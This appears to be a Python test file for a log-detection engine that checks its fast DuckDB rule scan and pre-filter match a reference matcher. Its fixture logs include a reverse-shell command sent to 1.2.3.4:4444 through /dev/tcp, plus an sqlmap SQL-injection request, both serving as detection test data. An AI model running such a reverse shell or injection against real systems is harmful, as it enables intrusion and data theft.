"""The bulk scan's shortcuts keep the meaning of every rule.

* OR-ed string tests of one column folded into one regex alternation, and wildcards turned into
  regex searches (`detect.duckdb`), agree with the Python matcher on awkward text (regex
  metacharacters, newlines, letters whose case folds outside ASCII);
* the dataset pre-filter (`detect.prefilter`) never drops a rule that matches a row: the batch
  scan over a real store returns exactly the per-rule, per-row evaluation.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostwarden.core.chunks import Chunk
from hostwarden.core.schema import to_arrow
from hostwarden.detect.batch import matching_rows
from hostwarden.detect.ir import And, Node, Not, Or, Pred
from hostwarden.detect.matcher import compile_node
from hostwarden.detect.prefilter import plan, possible
from hostwarden.detect.ruleset import RuleSet, load_rules
from hostwarden.detect.sqlcompile import glob_search, match_arrow
from hostwarden.normalize.source import context_for
from hostwarden.pipelines.ingest import ingest_chunks
from hostwarden.store.eventstore import EventStore

CONN = duckdb.connect()
pieces = st.sampled_from(["a", "B", "ſ", "s", "S", "K", "k", "\u212a", "é", "É", ".", "*", "?", "\\", "|", "(", ")",
                          "[", "$", "^", "+", "{1}", " ", "\n", "/", "%", "x", "-", "\x00"])
texts = st.lists(pieces, max_size=6).map("".join)
FIELDS = ("event.original", "url.original")


@st.composite
def leaf(draw: Any) -> Pred:
    op = draw(st.sampled_from(["eq", "contains", "startswith", "endswith", "glob"]))
    return Pred(draw(st.sampled_from([*FIELDS, None])), op, draw(texts), cased=draw(st.booleans()))


@st.composite
def same_column_or(draw: Any) -> Or:
    """What the folding targets: several tests of one column under one OR (a Sigma value list)."""
    name, cased = draw(st.sampled_from([*FIELDS, None])), draw(st.booleans())
    ops = st.sampled_from(["eq", "contains", "startswith", "endswith", "glob"])
    return Or(tuple(Pred(name, draw(ops), draw(texts), cased=cased) for _ in range(draw(st.integers(2, 6)))))


trees = st.recursive(st.one_of(leaf(), same_column_or()), lambda kids: st.one_of(
    st.builds(lambda c: Or(tuple(c)), st.lists(kids, min_size=2, max_size=6)),
    st.builds(lambda c: And(tuple(c)), st.lists(kids, min_size=1, max_size=3)),
    st.builds(Not, kids)), max_leaves=12)
events = st.fixed_dictionaries({f: st.one_of(st.none(), texts) for f in FIELDS})


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(evs=st.lists(events, min_size=1, max_size=6), rule=trees)
def test_folded_alternations_and_glob_searches_agree_with_python(evs: list[dict[str, Any]], rule: Node) -> None:
    check = compile_node(rule)
    assert match_arrow(to_arrow(evs), rule, con=CONN) == [i for i, ev in enumerate(evs) if check(ev)], (rule, evs)


@pytest.mark.parametrize("needles", [[".", "x"], ["a|b", "zz"], ["(", "["], ["$", "^"], ["\\", "*"], ["", "q"],
                                     ["ſ", "k"], ["\n", "y"]])
@pytest.mark.parametrize("op", ["eq", "contains", "startswith", "endswith", "glob"])
def test_folded_lists_treat_every_character_literally(needles: list[str], op: str) -> None:
    rule = Or(tuple(Pred("url.original", op, n) for n in needles))
    evs = [{"url.original": t} for t in ("a", "A.B", "a|b", "(x", "$", "\\", "", "S", "\u212a", "\n", "xy", None)]
    check = compile_node(rule)
    assert match_arrow(to_arrow(evs), rule, con=CONN) == [i for i, ev in enumerate(evs) if check(ev)]


def test_glob_search_forms() -> None:
    assert glob_search("*chown root*chmod*", False) == "(?is)chown\\ root.*chmod"
    assert glob_search("/bin/*", True) == "(?s)\\A/bin/"
    assert glob_search("*.php", False) == "(?is)\\.php\\z"
    assert glob_search("a\\*", False) == "(?is)\\Aa\\*\\z"  # an escaped star is a literal


def test_profile_logic_is_three_valued() -> None:
    web = {"event.dataset": "nginx.access", "event.category": ["web"]}
    rule = And((Pred("event.category", "eq", "web"), Pred("url.original", "contains", "..")))
    assert possible(rule, web) is None  # depends on the URL
    assert possible(rule, {"event.dataset": "sshd", "event.category": ["authentication"]}) is False
    assert possible(Not(Pred("event.dataset", "eq", "sshd")), web) is True
    groups = plan([rule, None, Pred("process.name", "eq", "sshd")],
                  [("nginx.access", ["web"], None, "web", None), ("sshd", ["authentication"], None, "system", "sshd")])
    assert groups == {(0,): ["nginx.access"], (2,): ["sshd"]}


AUTH = ("Nov 28 10:00:0{i} web1 sshd[10{i}]: Failed password for root from 203.0.113.9 port 4{i}22 ssh2\n"
        "Nov 28 10:01:0{i} web1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n")
ACCESS = ('198.51.100.{i} - - [28/Nov/2026:10:00:0{i} +0000] "GET /item.php?id=1+UNION+SELECT+a,b+FROM+users HTTP/1.1" '
          '200 512 "-" "sqlmap/1.7"\n'
          '192.0.2.5{i} - - [28/Nov/2026:10:00:0{i} +0000] "GET /search?q=select+chair HTTP/1.1" 200 2048 "-" "Mozilla/5.0"\n')


def test_prefiltered_scan_equals_evaluating_every_rule_on_every_row(tmp_path: Path) -> None:
    sigma = Path(__file__).resolve().parents[3] / ".." / "shared" / "corpora" / "sigma" / "rules"
    ruleset = load_rules([Path(__file__).resolve().parents[3] / "rules" / "detect",
                          *([sigma / "linux", sigma / "web"] if sigma.is_dir() else [])])
    assert isinstance(ruleset, RuleSet)
    with EventStore(tmp_path / "data") as store:
        for path, text in (("/var/log/auth.log", AUTH), ("/var/log/nginx/access.log", ACCESS)):
            data = "".join(text.format(i=i) for i in range(6)).encode()
            ingest_chunks(store, [Chunk(path, 0, data)], ctx=context_for(path))
        got = {(idx, row["event.id"]) for idx, row in matching_rows(store, ruleset)}
        every = store.con.sql("SELECT * FROM events").to_arrow_table().to_pylist()
    checks = [ruleset.checks[r.id] for r in ruleset.base_rules]
    want = {(i, ev["event.id"]) for ev in every for i, check in enumerate(checks) if check(ev)}
    assert len(want) > 10
    assert got == want
